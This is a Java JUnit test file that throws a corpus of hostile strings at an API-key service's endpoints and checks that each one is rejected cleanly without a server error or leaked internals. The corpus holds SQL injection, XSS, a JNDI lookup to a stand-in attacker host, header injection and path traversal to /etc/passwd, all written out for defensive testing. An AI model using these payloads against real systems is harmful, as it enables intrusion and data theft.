package com.latchkey.bootstrap;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.data.connection.jdbc.advice.DelegatingDataSource;
import io.micronaut.runtime.server.EmbeddedServer;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A corpus of hostile strings (injection, control and bidi characters, very long, odd Unicode)
 * thrown at every endpoint in every field: never a 5xx, and an invalid email stores nothing.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    @TempDir
    static Path dataDir;

    private EmbeddedServer server;
    private final HttpClient client = HttpClient.newHttpClient();

    static Stream<String> corpus() {
        List<String> corpus = new ArrayList<>(List.of(
                "",
                " ",
                "\t\n",
                "' OR '1'='1",
                "\"; DROP TABLE key_request; --",
                "Robert'); DROP TABLE api_key;--",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "${jndi:ldap://attacker.example/a}",
                "{{7*7}}",
                "%00",
                "\u0000",
                "nul\u0000inside@example.com",
                "\u202eevil\u202c@example.com",
                "zero\u200bwidth@example.com",
                "\uFEFFbom@example.com",
                "line\r\nX-Injected: yes",
                "owner@example.com\r\nBcc: victim@example.com",
                "../../../../etc/passwd",
                "null",
                "true",
                "😀".repeat(60),
                "Ω≈ç√∫˜µ≤≥÷",
                "üser@exämple.com",
                "ﷺ",
                "\uD800",
                "a".repeat(5000),
                "a".repeat(65) + "@example.com",
                "a@" + "b".repeat(300) + ".com",
                "@",
                "a@b",
                "owner@@example.com",
                "eck_" + "0".repeat(38),
                "eck_" + "!".repeat(38),
                "Bearer eck_x"));
        return corpus.stream();
    }

    @BeforeAll
    void start() {
        server = Instances.start(Map.of("latchkey.data-dir", dataDir.toString(), "latchkey.limits.enabled", "false"));
    }

    @AfterAll
    void stop() {
        server.close();
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void keyRequestsNeverFailWithA5xxAndInvalidEmailsStoreNothing(String hostile) throws Exception {
        int before = storedRequests();

        HttpResponse<String> asEmail =
                postJson("/api/v1/key-requests", "{\"name\":\"Owner\",\"email\":" + json(hostile) + "}");
        assertThat(asEmail.statusCode()).isIn(400, 413);
        assertThat(storedRequests()).isEqualTo(before);

        HttpResponse<String> asName = postJson(
                "/api/v1/key-requests", "{\"name\":" + json(hostile) + ",\"email\":\"owner@hostile.example\"}");
        assertThat(asName.statusCode()).isIn(202, 400, 413);
        assertThat(storedRequests()).isEqualTo(before + (asName.statusCode() == 202 ? 1 : 0));

        HttpResponse<String> asBoth = postJson(
                "/api/v1/key-requests",
                "{\"name\":" + json(hostile) + ",\"email\":" + json(hostile) + "," + json(hostile) + ":1}");
        assertThat(asBoth.statusCode()).isBetween(400, 499);
        assertProblemWithoutInternals(asEmail);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void verificationNeverFailsWithA5xx(String hostile) throws Exception {
        HttpResponse<String> asKey = postJson(
                "/api/v1/keys/verify", "{\"email\":\"owner@hostile.example\",\"apiKey\":" + json(hostile) + "}");
        HttpResponse<String> asEmail =
                postJson("/api/v1/keys/verify", "{\"email\":" + json(hostile) + ",\"apiKey\":\"eck_abc\"}");

        assertThat(asKey.statusCode()).isIn(400, 401, 413);
        assertThat(asEmail.statusCode()).isIn(400, 413);
        assertProblemWithoutInternals(asKey);
        assertProblemWithoutInternals(asEmail);
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void pathsAndBearerHeadersNeverFailWithA5xx(String hostile) throws Exception {
        HttpResponse<String> status = client.send(
                HttpRequest.newBuilder(URI.create(server.getURL() + "/api/v1/key-requests/"
                                + URLEncoder.encode(hostile, StandardCharsets.UTF_8)))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(status.statusCode()).isBetween(400, 499);

        String headerSafe = hostile.replaceAll("[^\\x20-\\x7E]", "?");
        for (String path : List.of("/api/v1/integrations/me", "/api/v1/keys/revoke")) {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(server.getURL() + path))
                    .header("Authorization", "Bearer " + headerSafe);
            HttpResponse<String> answer = client.send(
                    path.endsWith("me")
                            ? request.GET().build()
                            : request.POST(HttpRequest.BodyPublishers.noBody()).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(answer.statusCode()).isEqualTo(401);
            assertProblemWithoutInternals(answer);
        }
    }

    private static void assertProblemWithoutInternals(HttpResponse<String> response) {
        assertThat(response.headers().firstValue("Content-Type"))
                .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
        assertThat(response.body())
                .contains("\"code\":")
                .doesNotContain("Exception")
                .doesNotContain("com.latchkey")
                .doesNotContain("SELECT")
                .doesNotContain("at io.");
    }

    private HttpResponse<String> postJson(String path, String json) throws Exception {
        return client.send(
                HttpRequest.newBuilder(URI.create(server.getURL() + path))
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString(json))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private int storedRequests() throws Exception {
        DataSource dataSource = DelegatingDataSource.unwrapDataSource(
                server.getApplicationContext().getBean(DataSource.class));
        try (Connection connection = dataSource.getConnection();
                Statement statement = connection.createStatement();
                ResultSet count = statement.executeQuery("SELECT count(*) FROM key_request")) {
            count.next();
            return count.getInt(1);
        }
    }

    /** The string as a JSON string literal, with every control character and lone surrogate escaped. */
    private static String json(String text) {
        StringBuilder literal = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                literal.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) && !validPair(text, i)) {
                literal.append(String.format("\\u%04x", (int) c));
            } else {
                literal.append(c);
            }
        }
        return literal.append('"').toString();
    }

    private static boolean validPair(String text, int i) {
        char c = text.charAt(i);
        if (Character.isHighSurrogate(c)) {
            return i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1));
        }
        return i > 0 && Character.isHighSurrogate(text.charAt(i - 1));
    }
}
